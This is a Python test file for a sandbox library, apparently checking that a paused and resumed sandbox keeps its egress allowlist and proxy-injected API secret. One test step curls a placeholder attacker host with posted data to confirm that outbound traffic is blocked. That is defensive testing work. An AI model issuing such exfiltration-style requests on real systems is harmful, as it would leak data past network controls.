"""A paused sandbox's egress policy and brokered secrets come back with its resume (same id)."""

from __future__ import annotations

import json
import os

import pytest

from warmbox import Network, Sandbox, Secret
from warmbox.engine.engine import Engine

pytestmark = pytest.mark.sandbox
CURL = "curl -sS --max-time 8 "


def sh(sb, cmd: str, timeout: float = 40):
    return sb.commands.run(["/bin/bash", "-c", cmd], timeout=timeout)


def test_policy_and_secret_survive_pause_and_resume(net_home, world):
    world.clear_logs()
    value = "sk-REAL-" + os.urandom(8).hex()
    engine = Engine.for_home(net_home)
    sb = Sandbox.create(
        tier="container",
        template="shell",
        network=Network(allow=["api.test"]),
        secrets={"OPENAI_API_KEY": Secret(value, hosts=["api.test"])},
        timeout=120,
        home=net_home,
    )
    try:
        before = sh(sb, "echo $OPENAI_API_KEY").stdout.strip()
        assert before.startswith("warmbox-secret-")
        sb.pause()
        assert engine.registry.link(sb.sandbox_id) is None  # paused: no link, nothing routed
        assert value not in engine.registry.egress_of(sb.sandbox_id)  # placeholders only
        with Sandbox.connect(sb.sandbox_id, home=net_home) as back:
            assert back.sandbox_id == sb.sandbox_id
            # a fresh process (files-only resume on this tier) still sees the same placeholder...
            assert sh(back, "echo $OPENAI_API_KEY").stdout.strip() == before
            # ...the proxy still puts the real value in for the secret's host...
            r = sh(back, f'{CURL} -H "Authorization: Bearer $OPENAI_API_KEY" https://api.test/headers')
            assert r.exit_code == 0, r.stderr
            assert json.loads(r.stdout)["Authorization"] == f"Bearer {value}"
            # ...and the policy is the one it had: a host outside the allowlist stays refused
            r = sh(back, f"{CURL} -k https://attacker.example.com/up -d x")
            assert r.exit_code != 0
            assert not world.log("attacker")
            assert "allow" in back.network.policy() and "api.test" in back.network.policy()
        assert engine.registry.egress_of(sb.sandbox_id) == ""  # killed: the proxy forgot its secrets
    finally:
        sb.kill()
